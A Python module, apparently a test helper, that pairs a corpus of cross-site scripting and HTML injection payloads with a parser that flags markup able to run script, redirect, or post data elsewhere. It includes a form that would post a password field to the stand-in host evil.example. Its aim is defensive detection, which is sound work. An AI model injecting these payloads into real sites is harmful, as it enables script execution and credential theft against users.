"""What strangers type into fields, and whether a page lets any of it live."""

from html.parser import HTMLParser

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "<div style=position:fixed;inset:0>x</div>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in () %}",
    "${alert(1)}",
    '" onfocus=alert(1) autofocus="',
    "' onfocus=alert(1) autofocus='",
    "`onfocus=alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)

_ALIVE = {"iframe", "object", "embed", "base", "form", "math", "style"}
_SCHEMES = ("javascript:", "data:", "vbscript:")


class _Watch(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: (value or "") for name, value in attrs}
        if tag in _ALIVE or (tag == "script" and not values.get("src", "").startswith("/static/")):
            self.found.append(tag)
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.found.append("refresh")
        for name, value in values.items():
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction"} and value.strip().lower().startswith(_SCHEMES):
                self.found.append(f"{tag} {name}={value}")


def live_markup(html: str) -> list[str]:
    """Return what of `html` would run, load from elsewhere or move the reader; nothing for a page that only reads."""
    watch = _Watch()
    watch.feed(str(html))
    watch.close()
    return watch.found
